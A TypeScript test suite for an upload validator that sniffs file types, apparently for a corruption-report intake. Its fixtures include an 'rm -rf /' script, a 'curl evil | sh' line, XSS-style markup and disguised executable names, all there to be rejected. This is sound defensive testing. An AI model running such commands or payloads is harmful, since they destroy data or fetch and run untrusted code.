import { LIMITS } from '#contract/limits.js';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SNIFF_BYTES, contentMatchesType, sniffFamily } from '#core/attachmentType.js';
import { ALLOWED_TYPES, declaredUploadProblem, extensionOf, isExecutableName } from '#contract/attachmentTypes.js';
import { PDF_BYTES, PLAIN_TEXT_BYTES, bytes, jpegWithMetadata, pngWithMetadata } from './support/fixtures.js';

const utf8 = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const KOREAN = '부패 신고: 국토교통부 도로과장이 공사 계약 대가로 현금 오백만 원을 받았습니다.\n';

describe('sniffFamily', () => {
  it.each([
    ['PDF', PDF_BYTES, 'pdf'],
    ['PNG', pngWithMetadata(), 'png'],
    ['JPEG', jpegWithMetadata(), 'jpeg'],
    ['GIF87a', bytes('GIF87a', [1, 0, 1, 0]), 'gif'],
    ['GIF89a', bytes('GIF89a', [1, 0, 1, 0]), 'gif'],
    ['WebP', bytes('RIFF', [0x24, 0, 0, 0], 'WEBPVP8 '), 'webp'],
    ['WAV', bytes('RIFF', [0x24, 0, 0, 0], 'WAVEfmt '), 'wav'],
    ['MP4', bytes([0, 0, 0, 0x18], 'ftypmp42', [0, 0, 0, 0]), 'isobmff'],
    ['HEIC', bytes([0, 0, 0, 0x18], 'ftypheic'), 'isobmff'],
    ['MP3 with ID3', bytes('ID3', [4, 0, 0, 0, 0, 0, 0]), 'mp3'],
    ['MP3 frame', bytes([0xff, 0xfb, 0x90, 0x64]), 'mp3'],
    ['Ogg', bytes('OggS', [0, 2]), 'ogg'],
    ['zip (docx, xlsx, odt)', bytes('PK', [3, 4, 20, 0, 6, 0]), 'zip'],
    ['empty zip', bytes('PK', [5, 6], new Array<number>(18).fill(0)), 'zip'],
    ['OLE (doc, xls, hwp)', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'ole'],
    ['ASCII text', PLAIN_TEXT_BYTES, 'text'],
    ['CSV', utf8('date,amount\n2026-10-01,5000000\r\n'), 'text'],
    ['text with tabs', utf8('a\tb\tc\n'), 'text'],
    ['Korean UTF-8 text', utf8(KOREAN), 'text'],
    ['Windows PE (MZ)', bytes('MZ', [0x90, 0, 3, 0, 0, 0]), 'executable'],
    ['MZ even when it reads as text', utf8('MZ is how this text starts\n'), 'executable'],
    ['ELF', bytes([0x7f], 'ELF', [2, 1, 1, 0]), 'executable'],
    ['Mach-O', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), 'executable'],
    ['Java class', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), 'executable'],
    ['shell script', utf8('#!/bin/sh\nrm -rf /\n'), 'executable'],
    ['env script', utf8('#!/usr/bin/env node\nconsole.log(1)\n'), 'executable'],
    ['empty', new Uint8Array(0), 'unknown'],
    ['binary with NUL', bytes([0x00, 0x01, 0x02, 0x03]), 'unknown'],
    ['text with a NUL', utf8('abc\u0000def'), 'unknown'],
    ['text with DEL', utf8('abc\u007fdef'), 'unknown'],
    ['text with an escape', utf8('abc\u001b[31mred'), 'unknown'],
    ['invalid UTF-8', bytes('abc', [0xc3, 0x28], 'def'), 'unknown'],
    ['Latin-1 text', bytes('caf', [0xe9, 0x20], 'au lait'), 'unknown'],
    ['a stray continuation byte', bytes('abc', [0x80], 'def'), 'unknown'],
  ])('tells %s', (_what, input, family) => {
    expect(sniffFamily(input)).toBe(family);
  });

  it('reads Korean text cut in the middle of a character as text', () => {
    const full = utf8(KOREAN.repeat(3));
    // 한글 takes 3 bytes a character: cut after 1 and after 2 bytes of one
    const charStart = full.indexOf(0xeb, 10);
    expect(sniffFamily(full.subarray(0, charStart + 1))).toBe('text');
    expect(sniffFamily(full.subarray(0, charStart + 2))).toBe('text');
    expect(sniffFamily(full.subarray(0, charStart + 3))).toBe('text');
    // exactly what the intake looks at: the first SNIFF_BYTES bytes
    const head = utf8('가'.repeat(40)).subarray(0, SNIFF_BYTES);
    expect(SNIFF_BYTES % 3).not.toBe(0);
    expect(sniffFamily(head)).toBe('text');
  });

  it('reads a 4-byte character cut at the end as text', () => {
    const emoji = utf8('증거 사진 📷');
    for (let cut = 1; cut <= 3; cut++) expect(sniffFamily(emoji.subarray(0, emoji.length - cut))).toBe('text');
  });

  it('does not forgive a broken character in the middle', () => {
    const text = utf8('가나다라');
    const broken = bytes(text.subarray(0, 4), text.subarray(6));
    expect(sniffFamily(broken)).toBe('unknown');
  });

  it.each([
    ['<!DOCTYPE html><html><body>hi</body></html>'],
    ['<!doctype html>'],
    ['<html><script>alert(1)</script></html>'],
    ['  \n<HTML>'],
    ['<script>fetch("/api")</script>'],
    ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['\uFEFF<html>'],
    ['<?xml version="1.0"?><svg onload="alert(1)"/>'],
    ['<body onload="alert(1)">'],
  ])('does not take markup for text: %j', (html) => {
    expect(sniffFamily(utf8(html))).not.toBe('text');
    expect(contentMatchesType('text/plain', utf8(html))).toBe(false);
  });

  it('takes text that merely mentions HTML for text', () => {
    expect(sniffFamily(utf8('He said <html> was in the email.'))).toBe('text');
  });

  it('calls any printable UTF-8 text "text" unless it starts like an executable or HTML', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }), (s) => {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: text with control characters is what the sniffer must refuse
        fc.pre(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(s));
        fc.pre(!/^(MZ|#!)/.test(s) && !/^\s*</.test(s));
        expect(sniffFamily(utf8(s))).toBe('text');
      }),
    );
  });
});

describe('names and declared types', () => {
  it('finds the extension, case-insensitively', () => {
    expect(extensionOf('report.PDF')).toBe('pdf');
    expect(extensionOf('archive.tar.gz')).toBe('gz');
    expect(extensionOf('no-extension')).toBe('');
    expect(isExecutableName('setup.EXE')).toBe(true);
    expect(isExecutableName('invoice.pdf.exe')).toBe(true);
    expect(isExecutableName('invoice.exe.pdf')).toBe(false);
    expect(isExecutableName('photo.jpg')).toBe(false);
  });

  it('sees the extension Windows would use when a name ends in dots or spaces', () => {
    expect(isExecutableName('setup.exe.')).toBe(true);
    expect(isExecutableName('setup.exe. . ')).toBe(true);
    expect(declaredUploadProblem('payload.js.', 'text/plain')).not.toBeNull();
  });

  it.each([
    ['setup.exe', 'application/pdf'],
    ['evidence.js', 'text/plain'],
    ['run.sh', 'text/plain'],
    ['page.html', 'text/plain'],
    ['drawing.svg', 'image/png'],
    ['macro.ps1', 'text/plain'],
    ['INVOICE.PDF.SCR', 'application/pdf'],
  ])('refuses the executable or script name %s', (name, type) => {
    expect(declaredUploadProblem(name, type)).toBe('executable and script files are not accepted');
  });

  it.each([
    ['application/x-msdownload'],
    ['text/html'],
    ['image/svg+xml'],
    ['application/javascript'],
    ['application/octet-stream'],
    ['IMAGE/JPEG'],
    [''],
  ])('refuses the unlisted type %j', (type) => {
    expect(declaredUploadProblem('evidence.dat', type)).toBe(`files of type ${type} are not accepted`);
  });

  it.each([['toString'], ['constructor'], ['__proto__'], ['hasOwnProperty']])(
    'refuses the type %j, which only the prototype knows',
    (type) => {
      expect(declaredUploadProblem('evidence.dat', type)).not.toBeNull();
      expect(contentMatchesType(type, PDF_BYTES)).toBe(false);
    },
  );

  it('accepts every listed type under an ordinary name', () => {
    for (const type of Object.keys(ALLOWED_TYPES)) expect(declaredUploadProblem('evidence.bin.pdf', type), type).toBeNull();
    expect(declaredUploadProblem('사진.jpg', 'image/jpeg')).toBeNull();
    expect(declaredUploadProblem('minutes.hwp', 'application/vnd.hancom.hwp')).toBeNull();
  });

  it('limits attachments to 25 MiB', () => {
    expect(LIMITS.attachmentBytes).toBe(26_214_400);
  });
});

describe('contentMatchesType', () => {
  it('accepts bytes of the declared type', () => {
    expect(contentMatchesType('application/pdf', PDF_BYTES)).toBe(true);
    expect(contentMatchesType('image/jpeg', jpegWithMetadata())).toBe(true);
    expect(contentMatchesType('image/png', pngWithMetadata())).toBe(true);
    expect(contentMatchesType('text/plain', utf8(KOREAN))).toBe(true);
    expect(contentMatchesType('text/csv', PLAIN_TEXT_BYTES)).toBe(true);
    expect(contentMatchesType('application/vnd.openxmlformats-officedocument.wordprocessingml.document', bytes('PK', [3, 4]))).toBe(true);
    expect(contentMatchesType('application/vnd.hancom.hwp', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]))).toBe(true);
    expect(contentMatchesType('video/mp4', bytes([0, 0, 0, 0x18], 'ftypisom'))).toBe(true);
  });

  it('refuses bytes of another type', () => {
    expect(contentMatchesType('image/png', PDF_BYTES)).toBe(false);
    expect(contentMatchesType('application/pdf', jpegWithMetadata())).toBe(false);
    expect(contentMatchesType('image/jpeg', pngWithMetadata())).toBe(false);
    expect(contentMatchesType('text/plain', PDF_BYTES.subarray(0, 0))).toBe(false);
  });

  it('refuses an executable whatever it claims to be', () => {
    const pe = bytes('MZ', [0x90, 0, 3, 0]);
    for (const type of Object.keys(ALLOWED_TYPES)) expect(contentMatchesType(type, pe), type).toBe(false);
    const script = utf8('#!/bin/bash\ncurl evil | sh\n');
    for (const type of Object.keys(ALLOWED_TYPES)) expect(contentMatchesType(type, script), type).toBe(false);
  });

  it('refuses an unlisted type whatever the bytes', () => {
    expect(contentMatchesType('application/x-pdf', PDF_BYTES)).toBe(false);
    expect(contentMatchesType('text/html', utf8('hello'))).toBe(false);
  });
});
